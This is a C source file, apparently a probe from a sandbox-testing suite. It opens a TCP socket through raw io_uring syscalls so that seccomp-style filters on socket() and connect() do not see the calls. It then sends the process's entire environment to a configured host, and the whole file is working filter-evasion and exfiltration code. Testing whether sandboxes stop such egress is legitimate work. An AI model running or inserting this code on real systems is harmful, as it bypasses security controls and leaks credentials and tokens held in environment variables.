/* io-uring-socket: socket, connect and send as io_uring operations, through
 * raw io_uring_setup/io_uring_enter syscalls: a filter on socket() and
 * connect() never sees them (needs Linux 5.19+ for IORING_OP_SOCKET). */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "targets.h"

extern char **environ;

static struct {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
} ring;

static int ring_init(void)
{
	struct io_uring_params p;
	size_t sq_len, cq_len;
	char *sq, *cq;

	memset(&p, 0, sizeof(p));
	ring.fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (ring.fd < 0)
		return -1;
	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_len = cq_len = sq_len > cq_len ? sq_len : cq_len;
	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd,
	          IORING_OFF_SQ_RING);
	cq = (p.features & IORING_FEAT_SINGLE_MMAP)
	         ? sq
	         : mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED,
	                ring.fd, IORING_OFF_CQ_RING);
	ring.sqes =
	    mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
	         PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || ring.sqes == MAP_FAILED)
		return -1;
	ring.sq_tail = (unsigned *)(sq + p.sq_off.tail);
	ring.sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	ring.sq_array = (unsigned *)(sq + p.sq_off.array);
	ring.cq_head = (unsigned *)(cq + p.cq_off.head);
	ring.cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	ring.cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submits |sqe|, waits for its completion; its result (>= 0 or -errno). */
static int ring_do(const struct io_uring_sqe *sqe)
{
	unsigned tail = *ring.sq_tail, idx = tail & *ring.sq_mask, head;
	int res;

	ring.sqes[idx] = *sqe;
	ring.sq_array[idx] = idx;
	__atomic_store_n(ring.sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS,
	            NULL, 0) < 0)
		return -errno;
	head = __atomic_load_n(ring.cq_head, __ATOMIC_ACQUIRE);
	res = ring.cqes[head & *ring.cq_mask].res;
	__atomic_store_n(ring.cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	struct io_uring_sqe sqe;
	static char data[65536];
	size_t len = 0;
	int fd, rc;

	targets_load(argc, argv);
	if (ring_init() < 0) {
		perror("io_uring_setup");
		return 1;
	}
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SOCKET;
	sqe.fd = AF_INET;
	sqe.off = SOCK_STREAM;
	if ((fd = ring_do(&sqe)) < 0) {
		fprintf(stderr, "IORING_OP_SOCKET: %s\n", strerror(-fd));
		return 1;
	}
	sa.sin_port = htons((unsigned short)atoi(target("T_TCP_PORT")));
	inet_pton(AF_INET, target("T_TCP_HOST"), &sa.sin_addr);
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = fd;
	sqe.addr = (unsigned long)&sa;
	sqe.off = sizeof(sa);
	if ((rc = ring_do(&sqe)) < 0) {
		fprintf(stderr, "IORING_OP_CONNECT: %s\n", strerror(-rc));
		return 1;
	}
	for (char **e = environ; *e && len + strlen(*e) + 2 < sizeof(data); e++)
		len += (size_t)snprintf(data + len, sizeof(data) - len, "%s\n",
		                        *e);
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_SEND;
	sqe.fd = fd;
	sqe.addr = (unsigned long)data;
	sqe.len = (unsigned)len;
	if ((rc = ring_do(&sqe)) < 0)
		fprintf(stderr, "IORING_OP_SEND: %s\n", strerror(-rc));
	return 0;
}
